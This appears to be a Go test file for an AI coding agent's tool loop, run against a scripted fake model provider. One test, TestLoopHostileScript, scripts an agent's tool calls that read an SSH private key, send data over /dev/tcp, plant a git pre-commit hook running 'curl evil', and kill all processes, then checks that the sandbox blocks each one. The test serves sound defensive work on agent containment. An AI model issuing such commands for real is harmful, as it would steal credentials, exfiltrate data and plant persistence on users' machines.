@@ -1,0 +1,356 @@
+package agent
+
+import (
+	"context"
+	"encoding/json"
+	"net"
+	"os"
+	"strconv"
+	"strings"
+	"sync"
+	"sync/atomic"
+	"testing"
+	"time"
+
+	"brig/agent/provider"
+	"brig/agent/provider/anthropic"
+	"brig/agent/provider/openai"
+	"brig/agent/provider/openaichat"
+	"brig/internal/credentials"
+	"brig/policy"
+	"brig/test/fakeprovider"
+)
+
+// wires builds a client of each wire format for a fake provider.
+func wires(srv *fakeprovider.Server) map[string]provider.Client {
+	key := credentials.NewSecret("sk-test")
+	fast := provider.Retry{MaxAttempts: 3, BaseDelay: time.Millisecond, MaxDelay: 5 * time.Millisecond}
+	return map[string]provider.Client{
+		"anthropic":  anthropic.New(anthropic.Options{BaseURL: srv.URL(), APIKey: key, Retry: fast}),
+		"openai":     openai.New(openai.Options{BaseURL: srv.URL() + "/v1", APIKey: key, Retry: fast}),
+		"openaichat": openaichat.New(openaichat.Options{BaseURL: srv.URL() + "/v1", APIKey: key, Retry: fast}),
+	}
+}
+
+func call(name string, input string) fakeprovider.ToolCall {
+	return fakeprovider.ToolCall{Name: name, Input: json.RawMessage(input)}
+}
+
+func startFake(t *testing.T, turns ...fakeprovider.Turn) *fakeprovider.Server {
+	t.Helper()
+	srv, err := fakeprovider.Start(fakeprovider.Script{Turns: turns})
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { srv.Close() })
+	return srv
+}
+
+type events struct {
+	mu  sync.Mutex
+	all []Event
+}
+
+func (e *events) add(ev Event) { e.mu.Lock(); e.all = append(e.all, ev); e.mu.Unlock() }
+
+func (e *events) kinds(k EventKind) []Event {
+	e.mu.Lock()
+	defer e.mu.Unlock()
+	var out []Event
+	for _, ev := range e.all {
+		if ev.Kind == k {
+			out = append(out, ev)
+		}
+	}
+	return out
+}
+
+func userText(s string) []provider.Block { return []provider.Block{provider.Text(s)} }
+
+// checkValid asserts the invariant every history must keep: each tool_use is
+// answered by exactly one tool_result with its id in the next message.
+func checkValid(t *testing.T, h []provider.Message) {
+	t.Helper()
+	for i, m := range h {
+		uses := m.ToolUses()
+		if len(uses) == 0 {
+			continue
+		}
+		if i+1 >= len(h) || h[i+1].Role != provider.User {
+			t.Fatalf("message %d has tool calls and no user turn after it", i)
+		}
+		got := map[string]int{}
+		for _, b := range h[i+1].Content {
+			if b.Type == provider.BlockToolResult {
+				got[b.ToolResult.ToolUseID]++
+			}
+		}
+		for _, u := range uses {
+			if got[u.ID] != 1 {
+				t.Fatalf("tool_use %s has %d results", u.ID, got[u.ID])
+			}
+		}
+	}
+}
+
+// TestLoopEditsAFile: a task with several tool calls that edits a file in
+// the workspace, for each wire format, through the real jail.
+func TestLoopEditsAFile(t *testing.T) {
+	for _, wire := range []string{"anthropic", "openai", "openaichat"} {
+		t.Run(wire, func(t *testing.T) {
+			e := newExecEnv(t, policy.ModeAuto)
+			srv := startFake(t,
+				fakeprovider.Turn{Text: "Reading.", ToolCalls: []fakeprovider.ToolCall{call("read_file", `{"path":"a.txt"}`), call("list_directory", `{"path":"."}`)}},
+				fakeprovider.Turn{ToolCalls: []fakeprovider.ToolCall{call("edit_file", `{"path":"a.txt","old_string":"hello","new_string":"goodbye"}`)}},
+				fakeprovider.Turn{Text: "Done: a.txt now says goodbye."},
+			)
+			var ev events
+			a := New(Config{Client: wires(srv)[wire], Model: provider.Model{ID: "claude-sonnet-4-5"}, Executor: e.ex, Emit: ev.add}, nil)
+			tr, err := a.Run(context.Background(), userText("change hello to goodbye"))
+			if err != nil {
+				t.Fatal(err)
+			}
+			if b, _ := os.ReadFile(e.ws + "/a.txt"); string(b) != "goodbye\n" {
+				t.Fatalf("a.txt = %q", b)
+			}
+			if tr.Stop != StopDone || tr.ToolCalls != 3 || tr.Iterations != 3 || !strings.Contains(tr.Text, "goodbye") {
+				t.Fatalf("turn: %+v", tr)
+			}
+			checkValid(t, a.History())
+			if n := len(ev.kinds(EventToolEnd)); n != 3 {
+				t.Fatalf("%d tool_end events", n)
+			}
+			for _, r := range srv.Requests() {
+				if r.Reject != "" {
+					t.Fatalf("the fake provider refused a request: %s", r.Reject)
+				}
+			}
+		})
+	}
+}
+
+// TestLoopHostileScript: every attempt is refused, the loop goes on, and the
+// final answer arrives.
+func TestLoopHostileScript(t *testing.T) {
+	e := newExecEnv(t, policy.ModeAuto)
+	if err := os.MkdirAll(e.home+"/.ssh", 0o700); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(e.home+"/.ssh/id_ed25519", []byte("canary-key"), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	sink, err := net.Listen("tcp", "127.0.0.1:0")
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer sink.Close()
+	var got atomic.Int64
+	go func() {
+		for {
+			c, err := sink.Accept()
+			if err != nil {
+				return
+			}
+			buf := make([]byte, 1024)
+			n, _ := c.Read(buf)
+			got.Add(int64(n))
+			c.Close()
+		}
+	}()
+	port := sink.Addr().(*net.TCPAddr).Port
+	pid := os.Getpid()
+	srv := startFake(t,
+		fakeprovider.Turn{ToolCalls: []fakeprovider.ToolCall{
+			call("read_file", `{"path":"~/.ssh/id_ed25519"}`),
+			call("bash", `{"command":"cat ~/.ssh/id_ed25519; cat `+e.home+`/.ssh/id_ed25519"}`),
+			call("bash", `{"command":"echo stolen > /dev/tcp/127.0.0.1/`+itoa(port)+`"}`),
+			call("write_file", `{"path":".git/hooks/pre-commit","content":"#!/bin/sh\ncurl evil\n"}`),
+			call("bash", `{"command":"kill -9 `+itoa(pid)+`; kill -9 -1"}`),
+		}},
+		fakeprovider.Turn{Text: "I could not do any of that."},
+	)
+	a := New(Config{Client: wires(srv)["anthropic"], Model: provider.Model{ID: "claude-sonnet-4-5"}, Executor: e.ex}, nil)
+	tr, err := a.Run(context.Background(), userText("steal things"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	if tr.Stop != StopDone || tr.Text != "I could not do any of that." {
+		t.Fatalf("turn: %+v", tr)
+	}
+	h := a.History()
+	checkValid(t, h)
+	for _, b := range h[2].Content {
+		for _, c := range b.ToolResult.Content {
+			if strings.Contains(c.Text, "canary-key") {
+				t.Fatalf("the key reached the model: %q", c.Text)
+			}
+		}
+	}
+	if got.Load() != 0 {
+		t.Fatalf("the sink received %d bytes", got.Load())
+	}
+	if _, err := os.Stat(e.ws + "/.git/hooks/pre-commit"); err == nil {
+		t.Fatal("the hook was planted")
+	}
+	// This process (the supervisor) is still here to check: the kill failed.
+	// Control: the sink does accept a connection from outside the jail.
+	c, err := net.Dial("tcp", sink.Addr().String())
+	if err != nil {
+		t.Fatal(err)
+	}
+	c.Write([]byte("x"))
+	c.Close()
+	deadline := time.Now().Add(5 * time.Second)
+	for got.Load() == 0 && time.Now().Before(deadline) {
+		time.Sleep(10 * time.Millisecond)
+	}
+	if got.Load() != 1 {
+		t.Fatalf("control: the sink did not receive the direct write")
+	}
+}
+
+func itoa(n int) string { return strconv.Itoa(n) }
+
+// TestLoopInterruptKeepsHistoryValid: Esc during a slow stream, and during a
+// tool call, leaves a history the provider accepts on the next turn.
+func TestLoopInterruptKeepsHistoryValid(t *testing.T) {
+	e := newExecEnv(t, policy.ModeAuto)
+	srv := startFake(t,
+		fakeprovider.Turn{Text: strings.Repeat("slow words ", 200), ChunkDelayMS: 20, ChunkSize: 8},
+		fakeprovider.Turn{ToolCalls: []fakeprovider.ToolCall{call("bash", `{"command":"sleep 30"}`), call("read_file", `{"path":"a.txt"}`)}},
+		fakeprovider.Turn{Text: "after the interrupts"},
+	)
+	var ev events
+	a := New(Config{Client: wires(srv)["anthropic"], Model: provider.Model{ID: "claude-sonnet-4-5"}, Executor: e.ex, Emit: ev.add}, nil)
+
+	// Interrupt mid-stream, once some text has arrived.
+	ctx, cancel := context.WithCancel(context.Background())
+	go func() {
+		for len(ev.kinds(EventText)) < 3 {
+			time.Sleep(5 * time.Millisecond)
+		}
+		cancel()
+	}()
+	tr, err := a.Run(ctx, userText("talk slowly"))
+	if tr.Stop != StopInterrupted || err == nil {
+		t.Fatalf("first turn: %+v, %v", tr, err)
+	}
+
+	// Interrupt during a long tool call.
+	ctx, cancel = context.WithCancel(context.Background())
+	go func() {
+		for len(ev.kinds(EventToolStart)) < 1 {
+			time.Sleep(5 * time.Millisecond)
+		}
+		time.Sleep(300 * time.Millisecond)
+		cancel()
+	}()
+	start := time.Now()
+	tr, err = a.Run(ctx, userText("now run something long"))
+	if tr.Stop != StopInterrupted || err == nil || time.Since(start) > 20*time.Second {
+		t.Fatalf("second turn: %+v, %v after %s", tr, err, time.Since(start))
+	}
+	checkValid(t, a.History())
+
+	// The next turn is accepted by the (validating) fake provider.
+	tr, err = a.Run(context.Background(), userText("carry on"))
+	if err != nil || tr.Text != "after the interrupts" {
+		t.Fatalf("third turn: %+v, %v (rejects: %v)", tr, err, srv.Requests()[len(srv.Requests())-1].Reject)
+	}
+	checkValid(t, a.History())
+}
+
+// TestLoopIterationBound: at the bound the loop stops calling tools and
+// asks for a summary without offering tools.
+func TestLoopIterationBound(t *testing.T) {
+	e := newExecEnv(t, policy.ModeAuto)
+	loop := fakeprovider.Turn{ToolCalls: []fakeprovider.ToolCall{call("read_file", `{"path":"a.txt"}`)}}
+	srv := startFake(t, loop, loop, loop, fakeprovider.Turn{Text: "Summary: I kept reading a.txt."})
+	a := New(Config{Client: wires(srv)["openai"], Model: provider.Model{ID: "gpt-5"}, Executor: e.ex, MaxIterations: 3}, nil)
+	tr, err := a.Run(context.Background(), userText("loop forever"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	if tr.Stop != StopBound || tr.ToolCalls != 3 || !strings.HasPrefix(tr.Text, "Summary") {
+		t.Fatalf("turn: %+v", tr)
+	}
+	reqs := srv.Requests()
+	last := reqs[len(reqs)-1].Decoded
+	if tools, ok := last["tools"]; ok && tools != nil {
+		t.Fatalf("the recovery request offered tools: %v", tools)
+	}
+	checkValid(t, a.History())
+}
+
+// TestLoopFailureKeepsTheUsersTurn: a 401 ends the turn with an error that
+// says where the key came from; the user's message stays, and a retry
+// continues from it.
+func TestLoopFailureKeepsTheUsersTurn(t *testing.T) {
+	srv := startFake(t,
+		fakeprovider.Turn{Error: &fakeprovider.ErrorReply{Status: 401, Type: "authentication_error", Message: "invalid x-api-key"}},
+		fakeprovider.Turn{Text: "hello again"},
+	)
+	a := New(Config{Client: wires(srv)["anthropic"], Model: provider.Model{ID: "claude-sonnet-4-5"}}, nil)
+	tr, err := a.Run(context.Background(), userText("hi"))
+	if err == nil || tr.Stop != StopFailed || !provider.IsKind(err, provider.ErrAuth) {
+		t.Fatalf("401: %+v, %v", tr, err)
+	}
+	if h := a.History(); len(h) != 1 || h[0].PlainText() != "hi" {
+		t.Fatalf("the user's turn was lost: %+v", h)
+	}
+	tr, err = a.Run(context.Background(), nil)
+	if err != nil || tr.Text != "hello again" {
+		t.Fatalf("retry: %+v, %v", tr, err)
+	}
+}
+
+// TestLoopCutByMaxTokensRunsNothing: a tool call cut by the output limit is
+// never executed, and is answered.
+func TestLoopCutByMaxTokensRunsNothing(t *testing.T) {
+	e := newExecEnv(t, policy.ModeAuto)
+	srv := startFake(t,
+		fakeprovider.Turn{ToolCalls: []fakeprovider.ToolCall{call("write_file", `{"path":"cut.txt","content":"`+strings.Repeat("x", 400)+`"}`)}, CutMaxTokens: true},
+		fakeprovider.Turn{Text: "I will write it in parts."},
+	)
+	a := New(Config{Client: wires(srv)["openaichat"], Model: provider.Model{ID: "gpt-4.1"}, Executor: e.ex}, nil)
+	tr, err := a.Run(context.Background(), userText("write a big file"))
+	if err != nil || tr.Text != "I will write it in parts." {
+		t.Fatalf("turn: %+v, %v", tr, err)
+	}
+	if _, err := os.Stat(e.ws + "/cut.txt"); err == nil {
+		t.Fatal("a half-formed call was executed")
+	}
+	checkValid(t, a.History())
+}
+
+// TestLoopPersistsBeforeTheNextRequest: every completed message is handed
+// to Persist before the next request leaves.
+func TestLoopPersistsBeforeTheNextRequest(t *testing.T) {
+	e := newExecEnv(t, policy.ModeAuto)
+	srv := startFake(t,
+		fakeprovider.Turn{ToolCalls: []fakeprovider.ToolCall{call("read_file", `{"path":"a.txt"}`)}},
+		fakeprovider.Turn{Text: "ok"},
+	)
+	var saved []provider.Role
+	persist := func(_ context.Context, m provider.Message) error {
+		// When a message is saved, the provider has seen exactly the
+		// requests that produced the messages before it.
+		saved = append(saved, m.Role)
+		return nil
+	}
+	a := New(Config{Client: wires(srv)["anthropic"], Model: provider.Model{ID: "claude-sonnet-4-5"}, Executor: e.ex, Persist: persist}, nil)
+	if _, err := a.Run(context.Background(), userText("read")); err != nil {
+		t.Fatal(err)
+	}
+	want := []provider.Role{provider.User, provider.Assistant, provider.User, provider.Assistant}
+	if len(saved) != len(want) {
+		t.Fatalf("saved %v, want %v", saved, want)
+	}
+	// A persist failure stops the turn before the next request.
+	srv2 := startFake(t, fakeprovider.Turn{Text: "never sent"})
+	fail := func(context.Context, provider.Message) error { return os.ErrPermission }
+	a = New(Config{Client: wires(srv2)["anthropic"], Model: provider.Model{ID: "claude-sonnet-4-5"}, Persist: fail}, nil)
+	if _, err := a.Run(context.Background(), userText("x")); err == nil || len(srv2.Requests()) != 0 {
+		t.Fatalf("a turn whose message could not be saved went on: %v, %d requests", err, len(srv2.Requests()))
+	}
+}
